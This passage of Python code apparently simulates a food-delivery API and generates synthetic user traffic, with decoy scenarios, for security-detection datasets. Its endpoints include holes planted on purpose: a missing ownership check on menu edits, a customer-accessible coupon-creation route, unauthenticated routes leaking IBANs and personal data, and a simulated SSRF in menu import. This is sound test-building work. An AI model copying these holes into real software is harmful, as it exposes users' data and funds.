            o = s.orders[k]
            if o['city'] == c['city'] and o['fulfil'] == 'courier' and not o['courier'] and s.adv(o, now)['st'] in ('accepted', 'ready') and c['id'] not in o.get('passed', ()): out.append(o)
        return out
    @route('POST', '/v2/courier/location', auth='courier')
    def cloc(s, rq):
        j = body(rq, 'lat:float lng:float accuracy:float ts:int speed?:float battery?:int')
        if not rq.u['shift']: raise E(409, 'Not on shift')
        rq.u['lat'], rq.u['lng'] = j['lat'], j['lng']; v = s.open_offers(rq.u, rq.now) if not rq.u['job'] else []; return Rs(200, dict(next_in=30, offer=v[0]['id'] if v else None), lat=.006 * s.rng.lognormvariate(0, .4))
    @route('GET', '/v2/courier/offers', auth='courier')
    def offers(s, rq): return 200, [dict(id=o['id'], restaurant=o['rest'], pay=round(2.6 + (o['id'] % 37) / 9, 2), km=round(.6 + (o['id'] % 29) / 8, 1), tip=o['tip']) for o in s.open_offers(rq.u, rq.now)]
    @route('POST', '/v2/courier/offers/{id}/accept', auth='courier')
    def acc(s, rq, i):
        o = s.any_order(i)
        if o['courier'] or o['fulfil'] != 'courier' or s.adv(o, rq.now)['st'] not in ('accepted', 'ready'): raise E(409, 'Offer is gone')
        o['courier'], rq.u['job'] = rq.u['id'], o['id']; a = s.addr[o['addr']]
        return 200, dict(order_id=o['id'], pickup=dict(name=s.rest[o['rest']]['name'], street=s.rest[o['rest']]['street']), dropoff=dict(street=a['street'], lat=a['lat'], lng=a['lng']), customer=s.cust[o['cid']]['name'].split()[0], note=o['note'])
    @route('POST', '/v2/courier/deliveries/{id}/{step}', auth='courier')
    def deliv(s, rq, i, step):
        o = s.any_order(i)
        if o['courier'] != rq.u['id']: raise E(404, 'Delivery not found')
        s.adv(o, rq.now)
        if step == 'pickup':
            if o['st'] not in ('accepted', 'ready'): raise E(409, f'Order is {o["st"]}')
            o['st'], o['t'] = 'picked_up', rq.now
        elif step == 'dropoff':
            if o['st'] == 'picked_up': o['st'], o['t'] = 'delivered', rq.now
            rq.u['balance'] += 2.6 + (o['id'] % 37) / 9 + o['tip']; rq.u['job'] = None
        elif step == 'messages': o['msgs'].append({'from': 'courier', 'text': body(rq, 'text:str')['text'], 'at': iso(rq.now)})
        else: raise E(404, 'Not Found')
        return 200, dict(order_id=o['id'], status=o['st'])
    @route('GET', '/v2/courier/earnings', auth='courier')
    def earn(s, rq): return 200, dict(week=rq.q.get('week'), balance=round(rq.u['balance'], 2), days=[])
    @route('PUT', '/v2/courier/payout-account', auth='courier')
    def cacc(s, rq): rq.u['iban'] = body(rq, 'iban:str holder:str')['iban']; return 200, s.cview_(rq.u)
    @route('POST', '/v2/courier/payouts', auth='courier')
    def cpay(s, rq):
        j = body(rq, 'amount:float')
        if not 1 <= j['amount'] <= rq.u['balance']: raise E(409, 'Insufficient balance')
        rq.u['balance'] -= j['amount']; s.np += 1; return 201, dict(id=s.np, amount=j['amount'], iban_tail=rq.u['iban'][-4:], status='queued')
    # --- restaurant dashboard
    @route('POST', '/dashboard/login', auth='none')
    def dlogin(s, rq):
        f = rq.form; miss = [err(['body', n], *MISS) for n in ('email', 'password') if not f.get(n)]
        if miss: raise E(422, miss)
        u = s.dash.get(f['email'].lower())
        if not u or u['pw'] != f['password']: return Rs(401, dict(detail='Wrong e-mail or password'), lat=.2)
        k = s.rng.randbytes(20).hex(); s.sess[k] = (u, rq.now); return Rs(200, dict(restaurants=u['rests'], role=u['role']), {'Set-Cookie': f'dine_session={k}; HttpOnly; Secure; Path=/; SameSite=lax'}, lat=.2)
    def rview(s, o):
        u = s.cust[o['cid']]; return dict(id=o['id'], status=o['st'], items=[dict(name=s.items[i]['name'], qty=q) for i, q in o['lines']], total=o['total'], customer=dict(name=u['name'], phone=u['phone']), address=s.addr[o['addr']]['street'], note=o['note'], placed_at=iso(o['t']))
    def neworders(s, rests, now, sts=('placed',), since=0): return [s.rview(s.orders[k]) for k in list(s.orders)[-150 if not since else 0:] if s.orders[k]['rest'] in rests and s.orders[k]['t'] > since and s.adv(s.orders[k], now)['st'] in sts][-50:]
    @route('GET', '/dashboard/api/orders', auth='dash')
    def dord(s, rq): return 200, dict(items=s.neworders(rq.u['rests'], rq.now, ('placed',) if rq.q.get('status', 'new') == 'new' else ('accepted', 'ready', 'picked_up')))
    @route('POST', '/dashboard/api/orders/{id}/{step}', auth='dash')
    def dstep(s, rq, i, step):
        o = s.any_order(i)
        if o['rest'] not in rq.u['rests']: raise E(404, 'Order not found')
        return s.restep(rq, o, dict(accept='accepted', ready='ready', reject='cancelled').get(step))
    def restep(s, rq, o, st):
        if st is None: raise E(404, 'Not Found')
        if (s.adv(o, rq.now)['st'], st) not in (('placed', 'accepted'), ('accepted', 'ready'), ('placed', 'cancelled')): raise E(409, f'Order is {o["st"]}')
        o['st'], o['t'] = st, rq.now; return 200, dict(id=o['id'], status=st)
    @route('GET', '/dashboard/api/menu', auth='dash')
    def dmenu(s, rq): return 200, dict(items=[s.items[i] for x in rq.u['rests'] for i in s.rest[x]['items']])
    @route('PATCH', '/dashboard/api/menu/items/{id}', auth='dash')
    def ditem(s, rq, i):
        j = body(rq, 'price?:float name?:str available?:bool category?:str'); x = s.items.get(pint(i, 'item_id'))
        if not x: raise E(404, 'Menu item not found')
        x.update(j)                                            # the flaw: whose item it is is not looked at
        return 200, x
    @route('POST', '/dashboard/api/menu/items', auth='dash')
    def dnew(s, rq): j = body(rq, 'name:str price:float category:str'); return 201, s.items[s.new_item(rq.u['rests'][0], j['name'], j['price'], j['category'])]
    @route('POST', '/dashboard/api/menu/items/{id}/image', auth='dash')
    def dimg(s, rq, i):
        if 'multipart' not in rq.h.get('content-type', '') or b'filename=' not in (rq.body or b''): raise E(422, [err(['body', 'file'], *MISS)])
        return Rs(201, dict(item_id=pint(i, 'item_id'), image=f'https://img.dine.example/{i}.webp', bytes=len(rq.body)), lat=.3)
    @route('POST', '/dashboard/api/menu/import', auth='dash', owner=1)
    def dimp(s, rq):
        u = body(rq, 'url:str')['url']
        if not re.match(r'https?://[\w\[]', u): raise E(422, [err(['body', 'url'], 'invalid or missing URL scheme', 'value_error.url.scheme')])
        k, h = 3000 + len(s.imports), (urlsplit(u).hostname or '')
        if re.match(r'169\.254|10\.|127\.|localhost|\[?::|0x|2130706433|metadata', h):
            live = h in ('169.254.169.254', '10.20.4.9', '127.0.0.1', '2130706433')
            res = dict(status='failed', error='not a menu: unexpected content type text/plain' if live else 'connect timeout', sample=('{"Code":"Success","AccessKeyId":"ASIA' + s.code(16) + '","SecretAccessKey":"' + s.code(24) if 'iam' in u else 'consul.leader=10.20.4.9:8500' if live else None))
        elif u.endswith(('.csv', '.json', '.xml')): res = dict(status='done', items=s.rng.randint(12, 60), sample=None)
        else: res = dict(status='failed', error='not a menu: unexpected content type text/html', sample='<!doctype html><html lang="pt">')
        s.imports[k] = dict(id=k, url=u, **res); return Rs(202, dict(import_id=k, status='fetching'), lat=.1)
    @route('GET', '/dashboard/api/menu/imports/{id}', auth='dash')
    def gimp(s, rq, i):
        if pint(i, 'import_id') not in s.imports: raise E(404, 'Import not found')
        return 200, s.imports[int(i)]
    @route('GET', '/dashboard/api/reports/sales', auth='dash', owner=1)
    def dsales(s, rq): v = [o for o in s.orders.values() if o['rest'] in rq.u['rests'] and o['paid']]; return Rs(200, dict(orders=len(v), gross=round(sum(o['total'] for o in v), 2), rows=[[o['id'], o['total']] for o in v[-400:]]), lat=.15)
    @route('GET', '/dashboard/api/payouts', auth='dash', owner=1)
    def dpay(s, rq): return 200, dict(items=[dict(id=k, amount=v) for k, v in s.payouts.get(rq.u['rests'][0], {}).items()])
    @route('GET', '/dashboard/api/reviews', auth='dash')
    def drev(s, rq): return 200, dict(items=[dict(s.reviews[k], cid=None) for x in rq.u['rests'] for k in s.rest[x]['revs'][:20]])
    @route('POST', '/dashboard/api/reviews/{id}/reply', auth='dash')
    def drep(s, rq, i): body(rq, 'text:str'); return 201, dict(review_id=pint(i, 'review_id'))
    # --- points of sale and partners
    @route('GET', '/pos/v1/orders', auth='pos')
    def pord(s, rq): since = qint(rq, 'since', int(rq.now) - 3600, ge=0); return 200, dict(orders=s.neworders([rq.u['rest']], rq.now, ('placed', 'accepted', 'ready', 'picked_up', 'delivered'), since), now=int(rq.now))
    @route('POST', '/pos/v1/orders/{id}/status', auth='pos')
    def pst(s, rq, i):
        j = body(rq, 'status:str'); o = s.any_order(i)
        if o['rest'] != rq.u['rest']: raise E(404, 'Order not found')
        return s.restep(rq, o, j['status'] if j['status'] in ('accepted', 'ready', 'cancelled') else None)
    @route('PUT', '/pos/v1/stock', auth='pos')
    def pstock(s, rq): body(rq, 'items:list'); return 200, dict(updated=len(rq.json['items']))
    @route('GET', '/partner/v1/restaurants', auth='pos', kind='partner')
    def parl(s, rq): return page(rq, list(s.rest), lambda x: dict(s.rbrief(x, rq.now), city=s.rest[x]['city']), 50)
    @route('GET', '/partner/v1/restaurants/{slug}/menu', auth='pos', kind='partner')
    def parm(s, rq, sl): return s.menu(rq, sl)
    # --- support and administration
    @route('GET', '/admin/tickets', auth='staff')
    def tick(s, rq): return page(rq, [k for k, t in reversed(s.tickets.items()) if t['st'] == rq.q.get('status', 'open')], lambda k: dict(id=k, customer_id=s.tickets[k]['cid'], order_id=s.tickets[k]['oid'], subject=s.tickets[k]['subject']), 10)
    @route('POST', '/admin/tickets/{id}/reply', auth='staff')
    def trep(s, rq, i):
        j = body(rq, 'text:str close?:bool')
        if pint(i, 'ticket_id') not in s.tickets: raise E(404, 'Ticket not found')
        s.tickets[int(i)]['st'] = 'closed' if j.get('close') else 'open'; return 200, s.tickets[int(i)]
    @route('GET', '/admin/customers', auth='staff')
    def alist(s, rq): q = rq.q.get('q', '').lower(); return page(rq, [u for u in s.cust.values() if q in u['email'] or q in u['name'].lower() or q in u['phone']], lambda u: dict(id=u['id'], email=u['email'], name=u['name']), 20)
    @route('GET', '/admin/customers/{id}', auth='staff')
    def acust(s, rq, i):
        u = s.cust.get(pint(i, 'customer_id'))
        if not u: raise E(404, 'Customer not found')
        return 200, dict(s.me_(u), addresses=[s.addr[a]['street'] for a in u['ads']], orders=u['orders'][:20], payment_methods=len(u['pms']), created_at=iso(u['joined']))
    @route('GET', '/admin/orders/{id}', auth='staff')
    def aord(s, rq, i): return 200, s.oview(s.adv(s.any_order(i), rq.now))
    @route('POST', '/admin/orders/{id}/refund', auth='staff')
    def aref(s, rq, i): o = s.any_order(i); o['refund'] = body(rq, 'amount:float reason:str')['amount']; s.cust[o['cid']]['wallet'] += o['refund']; return 200, s.oview(o)
    @route('POST', '/admin/coupons', auth='cust')
    def acoup(s, rq):                                          # the flaw: any valid token
        j = body(rq, 'code:str percent:int days:int'); s.coupons[j['code']] = dict(pct=j['percent'], until=rq.now + j['days'] * DAY); return 201, dict(j, created_by=rq.u['id'])
    @route('GET', '/admin/payouts', auth='staff', scopes=('admin',))
    def apay(s, rq): return page(rq, [dict(id=k, restaurant=x, amount=v) for x, p in s.payouts.items() for k, v in p.items()], lambda x: x, 50)
    @route('PATCH', '/admin/restaurants/{slug}', auth='staff', scopes=('admin',))
    def arest(s, rq, sl): s.r_(sl).update({k: v for k, v in rq.json.items() if k in ('name', 'eta')}); return 200, s.rbrief(sl, rq.now)
    # --- inside, and what was left over
    @route('GET', '/healthz', auth='none')
    def health(s, rq): return Rs(200, {'status': 'ok'}, lat=.002)
    @route('GET', '/internal/settlement', auth='none')
    def settle(s, rq): t0 = rq.now - DAY; return Rs(200, dict(date=rq.q.get('date'), rows=[dict(order=o['id'], restaurant=o['rest'], gross=o['total'], commission=round(o['total'] * .27, 2), iban=s.rest[o['rest']]['iban']) for o in s.orders.values() if o['at'] > t0][-200:]), lat=.2)
    @route('GET', '/internal/metrics', auth='none')
    def metrics(s, rq): return Rs(200, ''.join(f'http_requests_total{{code="{c}"}} {s.rng.randint(10**3, 10**6)}\n' for c in (200, 201, 401, 404, 422, 500)), ct='text/plain; version=0.0.4')
    @route('GET', '/v1/restaurants', auth='none')
    def v1r(s, rq): return 200, dict(status='ok', result=[dict(id=x, name=v['name']) for x, v in s.rest.items() if v['city'] == rq.q.get('city')])
    @route('GET', '/v1/orders/{id}/status', auth='none')
    def v1s(s, rq, i): return 200, dict(status='ok', result=s.adv(s.any_order(i), rq.now)['st'])
    @route('GET', '/v1/users/{id}', auth='none')
    def v1u(s, rq, i):
        u = s.cust.get(int(i) if i.isdigit() else 0); return (200, dict(status='ok', result=dict(id=u['id'], name=u['name'], email=u['email'], phone=u['phone'], address=s.addr[u['ads'][0]]['street'] if u['ads'] else None))) if u else (404, dict(status='error', message='no such user'))


def build(name, seed, attacks, start='2026-05-11', days=14):
    st = ts(start); app = Dine(random.Random(seed + 1), st + 9 * DAY + 2 * HOUR if attacks else None, st + 3 * DAY + 5 * HOUR)
    S = Sim(name, 'Dine: food delivery and restaurant ordering (FastAPI manner), synthetic', st, days, '10.20.0.80', 80, 'api.dine.example', app, seed, 1, 'Synthetic application; answers follow from state. Quiet build has no attack and no schema growth.'); r = S.rng
    day = lambda: (S.now - st) / DAY; hour = lambda: ((S.now - st) / HOUR + 1) % 24; o0 = S.local(5, 20.1); app.down = [(o0, o0 + 17 * MIN)]
    for d, k, x in (('D-scan', 'internal_security_scan', 'the firm own scanner probes paths, verbs and injection strings from 10.20.66.4 on the night of day 4'), ('D-support', 'incident_record_review', 'support agent opens 70 customers and orders after the outage, one after the other (day 6)'), ('D-annual', 'annual_export', 'finance admin pages through all customers and payouts once for the annual report (day 10)'), ('D-bulk', 'bulk_price_edit', 'owner of a chain edits the prices of all own items in 12 minutes (day 2)'), ('D-office', 'heavy_legit_user', 'office secretary orders for three teams every working day, 20 times the median'), ('D-nat', 'shared_nat', '12 students behind one campus address'), ('D-partner', 'partner_address_change', 'aggregator moves to another cloud on day 8: same key and client, new address'), ('D-app', 'new_app_version', 'app 5.0 from day 7: other start page, one-call cart, /live instead of /tracking (first session of each user is labelled)'), ('D-broken', 'stale_newsletter_link', 'newsletter of day 8 links to a renamed restaurant: many customers get 404 for a day'), ('D-hook', 'webhook_redelivery', 'payment provider delays events on day 6 and delivers them three times'), ('D-promo', 'coupon_typos_evening', 'printed coupon with ambiguous letters on day 11: many customers mistype it, some six times'), ('D-otp', 'otp_sms_delay', 'text messages are late on day 7: couriers enter old codes many times'), ('D-roam', 'traveller_two_networks', 'a couple share an account: one abroad, one at home, the same days (days 6 to 9)'), ('D-hub', 'many_keys_one_address', 'a point-of-sale vendor polls with four keys from one address'), ('D-swap', 'courier_device_swap', 'courier phone dies in the middle of a shift: new device and network'), ('D-import', 'menu_import_staging', 'two new restaurants import menus from odd addresses, one private by mistake'), ('D-browse', 'curious_browser', 'a customer reads every menu and the reviews of the city in two evenings'), ('D-hire', 'new_support_agent', 'support agent hired on day 5; also trains with old records')):
        S.decoy(d, k, x)
    # --- restaurants
    adj, noun = 'Casa Tasca Cantina Sabores Cozinha Quinta Adega Mesa Forno Jardim'.split(), 'do Tejo|da Sé|Nova|Tokyo|Bombaim|do Norte|da Avó|Verde|Azteca|Napoli|do Mar|Imperial|Central|Sol'.split('|')
    while len(app.rest) < 84:
        nm = f'{r.choice(adj)} {r.choice(noun)}'; city = r.choice(['lisboa'] * 5 + ['porto'] * 3 + ['braga'] * 2); sl = re.sub(r'[^a-z]+', '-', nm.lower().replace('é', 'e').replace('ó', 'o')) + '-' + city
        if sl not in app.rest:
            app.rest[sl] = dict(name=nm, city=city, cuisine=r.choice(CUISINE), rating=round(r.uniform(3.4, 4.9), 1), eta=r.randint(20, 50), items=[], revs=[], tags=['new'], street=f'{r.choice(STREET)} {r.randint(1, 200)}', iban=f'PT50{r.randint(10**20, 10**21 - 1)}', w=r.lognormvariate(0, .8))
            for n in r.sample(DISH, r.randint(7, 14)): app.new_item(sl, n, round(r.uniform(1.6, 17), 1) + r.choice([0, .05, .4]))
    slugs = list(app.rest)
    for i, sl in enumerate(slugs): app.payouts[sl] = {7000 + i * 4 + k: round(r.uniform(80, 2400), 2) for k in range(3)}
    active = sorted(slugs, key=lambda x: -app.rest[x]['w'])[:15]
    for sl in active: app.rest[sl]['w'] *= 4; app.rest[sl]['act'] = True
    app.coupons = {app.code(6): dict(pct=p, until=st + u * DAY) for p, u in ((10, 30), (15, 20), (20, 9), (50, -3), (25, 40))}; app.coupons['SAB0R5'] = dict(pct=20, until=st + 12 * DAY)
    # --- customers
    mob = [f'148.69.{a}.{r.randint(2, 250)}' for a in (12, 14, 40, 41) for _ in range(6)]; offices = [f'62.28.{r.randint(3, 90)}.{r.randint(2, 250)}' for _ in range(10)]
    models = ['Android 14; Pixel 8', 'Android 13; SM-A546B', 'Android 12; Redmi Note 11', 'iOS 17.4; iPhone15,2', 'iOS 16.7; iPhone12,1']; ua = lambda m, v: f'Dine/{v} ({m}) ' + ('CFNetwork/1494.0.7 Darwin/23.4.0' if 'iOS' in m else r.choice(ANDROID))
    webh = {'Origin': 'https://dine.example', 'Referer': 'https://dine.example/', 'Accept-Language': 'pt-PT,pt;q=0.9'}
    def device(u, web=False, **k):
        m = r.choice(models); return dict(u=u, cl=Client(u['home'], r.choice(WEB) if web else ua(m, r.choice(['4.8.2', '4.8.2', '4.7.0'])), f'cust:{u["id"]}', headers=webh if web else {'X-Device-Id': r.randbytes(6).hex()}, **k), exp=0, rt=None, web=web, model=m, v5=None, old=False)
    def person(i, nm=None, now=st, pw=None, ref=None, city=None, home=None):
        nm = nm or people[i]; f, l = nm.split('.')
        u = app.new_cust(f'{nm}@{r.choice(["mail.example", "mail.example", "sapo.example", "uni.example"])}', pw or f'{r.choice(WORDS)}{r.randint(10, 999)}', f'{f} {l.strip("0123456789")}'.title(), f'+3519{r.randint(10000000, 69999999)}', city or r.choice(['lisboa'] * 5 + ['porto'] * 3 + ['braga'] * 2), now, ref)
        u['home'] = home or (f'2001:8a0:{r.randint(0x6000, 0x7fff):x}:{r.randint(1, 0xff) * 256:x}::{r.randint(1, 0xffff):x}' if i % 6 == 0 else f'85.24{r.randint(0, 7)}.{r.randint(1, 250)}.{r.randint(2, 250)}'); u['mob'], u['work'] = r.sample(mob, 2), r.choice(offices)
        u['fav'] = r.sample([x for x in slugs if app.rest[x]['city'] == u['city']], 3); return u
    def settle(u):
        for _ in range(r.choice([1, 1, 2])): app.new_addr(u)
        u['pms'] = ['pm_' + r.randbytes(6).hex() for _ in range(r.choice([1, 1, 2]))]; u['dev'] = [device(u)] + ([device(u, True)] if r.random() < .28 else []); return u
    people = names(r, 330); custs = [settle(person(i)) for i in range(185)]
    for i, u in enumerate(custs[:12]):
        u['home'] = '193.136.134.9'                             # the campus
        for d in u['dev']: d['cl'].dc = 'D-nat'
    hist = sorted((st - r.random() * 60 * DAY, r.choice(custs)) for _ in range(420)); pickr = lambda u: r.choice(u['fav']) if r.random() < .55 else r.choices(*zip(*[(x, app.rest[x]['w']) for x in slugs if app.rest[x]['city'] == u['city']]))[0]
    for t, u in hist:
        sl = pickr(u); o = app.new_order(u, sl, [(i, r.randint(1, 2)) for i in r.sample(app.rest[sl]['items'], r.randint(1, 4))], t, u['ads'][0], r.choice(['card', 'card', 'cash'])); o['st'], o['paid'] = 'delivered', 'paid'
        if r.random() < .35: app.new_review(sl, u, r.randint(2, 5), r.choice(['Muito bom!', 'Chegou frio', 'Great as always', 'ok', "L'entrecôte, 5*", '']), t)
    def move(cl, ip):
        if cl.ip != ip:
            if cl.conn: S.close(cl.conn)
            cl.ip, cl.conn = ip, None
    def place(d):
        u, h = d['u'], hour(); wd = time.gmtime(S.now).tm_wday < 5; x = r.random(); ip = u['home'] if d['web'] or x < (.35 if wd and 9 < h < 18 else .78) else r.choice(u['mob']) if x < .9 or not wd else u['work']
        if ':' in ip: ip = ip.rsplit('::', 1)[0] + f'::{random.Random(ip + str(int(day()))).randint(1, 65535):x}'
        move(d['cl'], u['away'] if u.get('away') and u['away_'][0] <= day() < u['away_'][1] else ip)
    def R(d, m, url, **k):
        """one call of an app: retried when the service is away, token renewed when it has expired"""; x, n = S.call(d['cl'], m, url, **k), 0
        while x.st == 503 and n < 4: yield 1.5 * 2 ** n; x, n = S.call(d['cl'], m, url, **k), n + 1
        if x.st == 401 and d.get('rt'): yield .2; yield from sign(d, True); x = S.call(d['cl'], m, url, **k)
        return x
    def sign(d, force=False, wrong=None):
        u, cl = d['u'], d['cl']
        if not force and (S.now < d['exp'] - 30 or d['rt'] and r.random() < .3): return
        if d['rt']: x = S.call(cl, 'POST', '/token', form=dict(grant_type='refresh_token', refresh_token=d['rt']), h={'Authorization': None}); d['rt'] = None
        else:
            for _ in range(wrong if wrong is not None else r.choice([0] * 8 + [1, 1, 2])):
                S.call(cl, 'POST', '/token', form=dict(grant_type='password', username=u['email'], password=r.choice([u['pw'].title(), u['pw'][:-1], 'Benfica1904'])), h={'Authorization': None}); yield r.uniform(4, 20)
            if r.random() < .02: S.call(cl, 'POST', '/v2/auth/forgot-password', js=dict(email=u['email']), h={'Authorization': None})
            x = S.call(cl, 'POST', '/token', form=dict(grant_type='password', username=u['email'], password=u['pw']), h={'Authorization': None})
        if x.st == 200: cl.h['Authorization'], d['exp'], d['rt'] = 'Bearer ' + x.body['access_token'], S.now + 3600, x.body['refresh_token']
        yield r.uniform(.1, .5)
    def read(d, n):
        u = d['u']
        for _ in range(n):
            x = r.random(); sl = pickr(u)
            if x < .2: q = r.choice(['pizza', 'sushi', 'poke', 'francesinha', 'burger', 'tikka', 'kebab', 'falafel'] + (["l'entrecôte", "joe's"] if r.random() < .3 else [])); yield from R(d, 'GET', f'/v2/search?q={quote(q)}&city={u["city"]}')
            elif x < .3: yield from R(d, 'GET', f'/v2/restaurants/nearby?lat={CITIES[u["city"]][0] + r.gauss(0, .01):.4f}&lng={CITIES[u["city"]][1] + r.gauss(0, .01):.4f}&radius_km={r.choice([1.5, 3, 3, 5, 8])}')
            elif x < .4: yield from R(d, 'GET', f'/v2/restaurants?city={u["city"]}&page={r.choice([1, 2, 2, 3])}' + (f'&cuisine={r.choice(CUISINE)}' if r.random() < .4 else ''))
            else:
                yield from R(d, 'GET', f'/v2/restaurants/{sl}'); yield from R(d, 'GET', f'/v2/restaurants/{sl}/menu')
                if r.random() < .3: yield from R(d, 'GET', f'/v2/restaurants/{sl}/reviews' + r.choice(['', '', '?page=2']))
            yield r.lognormvariate(2.6, .8)
    def buy(d, coupon=None, big=1, sl=None, pay=None, follow=True, **kw):
        u, sl = d['u'], sl or pickr(d['u']); x = yield from R(d, 'GET', f'/v2/restaurants/{sl}/menu')
        if x.st != 200: return
        it = [i for i in x.body['items'] if i['available'] or r.random() < .3]; it = r.sample(it, min(len(it), r.randint(2, 4) + (big > 1) * 2)); yield r.lognormvariate(3, .7)
        if r.random() < .25 and it: yield from R(d, 'GET', f'/v2/menu-items/{it[0]["id"]}')
        if d['v5']:
            x = yield from R(d, 'POST', '/v2/carts', js=dict(restaurant=sl, items=[dict(item_id=i['id'], quantity=r.randint(1, 2) * big) for i in it]))
            if x.st != 201: x = yield from R(d, 'POST', '/v2/carts', js=dict(restaurant=sl, items=[dict(item_id=i['id'], quantity=2 * big) for i in it if i['available']]))
            if x.st != 201: return
        else:
            x = yield from R(d, 'POST', '/v2/carts', js=dict(restaurant=sl))
            if x.st != 201: return
            for i in it: yield r.uniform(2, 15); y = yield from R(d, 'POST', f'/v2/carts/{x.body["id"]}/items', js=dict(item_id=i['id'], quantity=r.choice([1, 1, 2, 0 if r.random() < .04 else 1]) * big))
        c = x.body['id']
        for k in coupon or ([r.choice(list(app.coupons))] if r.random() < .08 else []): yield r.uniform(5, 25); yield from R(d, 'POST', f'/v2/carts/{c}/coupon', js=dict(code=k), dc=kw.get('cdc'))
        yield r.uniform(5, 40); x = yield from R(d, 'GET', '/v2/me/addresses')
        if x.st != 200 or not x.body: return
        a = x.body[0 if r.random() < .85 else -1]['id']; pay = pay or r.choices(['card', 'cash'], [.8, .2])[0]
        if pay == 'card': yield from R(d, 'GET', '/v2/me/payment-methods')
        x = yield from R(d, 'POST', '/v2/orders', js=dict(cart_id=c, address_id=a, payment=pay, tip=r.choice([0, 0, 0, 1, 1.5, 2]), use_wallet=u['wallet'] > 0 or r.random() < .1, note=r.choice(['', '', '', 'sem cebola', "don't ring, baby asleep", 'Porta 3; código 12#4', 'troco para 20€'])), ep=kw.get('ep'))
        if x.st != 201: return
        oid = x.body['id']
        if kw.get('unpaid') is None and pay == 'card':
            yield r.uniform(3, 12); y = yield from R(d, 'POST', f'/v2/orders/{oid}/pay', js=dict(payment_method_id=r.choice(u['pms'])))
            if r.random() < .03: yield from R(d, 'POST', f'/v2/orders/{oid}/pay', js=dict(payment_method_id=u['pms'][0]))  # double click
            if y.st == 202 and r.random() < .06: return oid      # leaves at the bank page
        elif 'between' in kw: yield from kw['between'](oid)
        n = 0
        while n < 7:
            yield r.uniform(2, 8) + n * 3; y, n = (yield from R(d, 'POST', f'/v2/orders/{oid}/confirm', ep=kw.get('ep'))), n + 1
            if y.st == 402: yield 15; y = yield from R(d, 'POST', f'/v2/orders/{oid}/pay', js=dict(payment_method_id=u['pms'][-1]))
            elif y.st != 409: break
        if y.st == 200 and r.random() < .03: yield from R(d, 'POST', f'/v2/orders/{oid}/cancel')
        if follow: yield from wait(d, oid)
        return oid
    def wait(d, oid):
        for n in range(r.choice([3, 5, 7, 10])):
            yield r.lognormvariate(5.3 if not d['v5'] else 5.1, .5); x = yield from R(d, 'GET', f'/v1/orders/{oid}/status' if d['old'] else f'/v2/orders/{oid}/live?since={n * 100}' if d['v5'] else f'/v2/orders/{oid}/tracking')
            if x.st != 200 or x.body.get('status') in ('delivered', 'cancelled', 'expired'): break
            if r.random() < .03: yield from R(d, 'POST', f'/v2/orders/{oid}/messages', js=dict(text=r.choice(['Onde está?', "I'm at the door", 'Obrigado!', 'ring the 2nd bell <left>'])))
            if r.random() < .04: yield from R(d, 'GET', f'/v2/orders/{oid}/messages')
        else:
            if r.random() < .4: return
        yield r.uniform(200, 3000)
        if r.random() < .3: yield from R(d, 'POST', f'/v2/orders/{oid}/rating', js=dict(stars=r.choice([5, 5, 5, 4, 4, 3, 2, 1, 6 if r.random() < .1 else 5]), text=r.choice(['', '', 'Óptimo', 'Frio :(', 'the best in town', "it's ok"])))
        if r.random() < .09: yield from R(d, 'POST', f'/v2/orders/{oid}/refund-request', js=dict(reason=r.choice(['missing_items', 'cold', 'wrong_order', 'late'])))
        if r.random() < .15: yield from R(d, 'GET', f'/v2/orders/{oid}/receipt')
    def session(u, d, order=.56, **kw):
        if any(a <= day() < b for a, b in u.get('leave', ())): return
        place(d)
        if not d['v5'] and not d['web'] and not d['old'] and S.now > u['v5at']: d['v5'] = True; d['cl'].ua = ua(d['model'], '5.0.0'); d['cl'].dc, back = 'D-app', d['cl'].dc
        else: back = d['cl'].dc
        yield from sign(d)
        if 'Authorization' not in d['cl'].h: return
        yield from R(d, 'GET', '/v2/home' if d['v5'] else f'/v1/restaurants?city={u["city"]}' if d['old'] else f'/v2/restaurants?city={u["city"]}'); x = r.random()
        if x < .25: yield from R(d, 'GET', '/v2/me')
        elif d['old'] and x < .6: yield from R(d, 'GET', f'/v1/users/{u["id"]}')
        if r.random() < .2:
            y = yield from R(d, 'GET', '/v2/orders' + r.choice(['', '', '?page=2&size=10']))
            if y.st == 200 and y.body['items']: yield r.uniform(2, 12); o = r.choice(y.body['items'])['id']; yield from R(d, 'GET', f'/v2/orders/{o}' + r.choice(['', '', '/receipt']))
        x = r.random()
        if x < .04: yield from R(d, 'GET', '/v2/me/referral')
        elif x < .06: yield from R(d, 'PATCH', '/v2/me', js=r.choice([dict(phone=u['phone']), dict(name=u['name']), dict(name=u['name'], phone=u['phone'], city=u['city'])]))
        elif x < .075: yield from R(d, 'POST', '/v2/me/addresses', js=dict(label='Outro', street=f'{r.choice(STREET)} {r.randint(1, 99)}', city=u['city']))
        elif x < .095:
            y = yield from R(d, 'POST', '/v2/gift-cards', js=dict(amount=r.choice([20, 30, 50]), recipient=r.choice(custs)['email'], payment_method_id=u['pms'][0]))
            if y.st == 201: S.spawn(S.now + r.uniform(1, 40) * HOUR, regift(r.choice(custs), y.body['code']))
        yield from read(d, r.choice([0, 1, 2, 2, 3, 5]))
        if r.random() < order: yield from buy(d, **kw)
        d['cl'].dc = back
    def regift(u, k):
        d = u['dev'][0]; place(d); yield from sign(d)
        for c in ([k[:-1] + r.choice(ALNUM)] if r.random() < .3 else []) + [k]: yield from R(d, 'GET', f'/v2/gift-cards/{c}'); yield r.uniform(5, 20)
        yield from R(d, 'POST', f'/v2/gift-cards/{k}/redeem')
    def newphone(u): u['dev'][0] = device(u); yield 0
    def live(u, rate, first=0):
        u['v5at'] = st + (7 + r.expovariate(.5)) * DAY if r.random() < .7 else st + 99 * DAY
        for t in S.human_starts(rate, peaks=((12.7, .7), (20, 1), (20.2, 1), (20.5, 1.3), (23, 1)), weekend=1.5):
            if t > st + first * DAY: S.spawn(t, session(u, r.choice(u['dev'] + [u['dev'][0]])))
    for i, u in enumerate(custs):
        if 40 <= i < 48: a = r.uniform(1, 8); u['leave'] = [(a, a + r.uniform(2, 5))]
        if 50 <= i < 54: u['dev'][0]['old'], u['dev'][0]['cl'].ua = True, 'DineAndroid/2.3 okhttp/3.12.1'
        if 60 <= i < 67: S.spawn(st + r.uniform(3, 11) * DAY, newphone(u))
        live(u, min(2., .17 * r.lognormvariate(0, .8)))
    sec = custs[20]; sec['dev'] = [dict(device(sec, True), web=True)]; sec['home'], sec['dev'][0]['cl'].dc = offices[3], 'D-office'
    for d in range(days):
        if d % 7 < 5:
            for h in (11.6, 12.1, 12.4): S.spawn(S.local(d, h + r.uniform(0, .3)), session(sec, sec['dev'][0], 1, big=5, pay='card'))
    def newcomer(i, t):
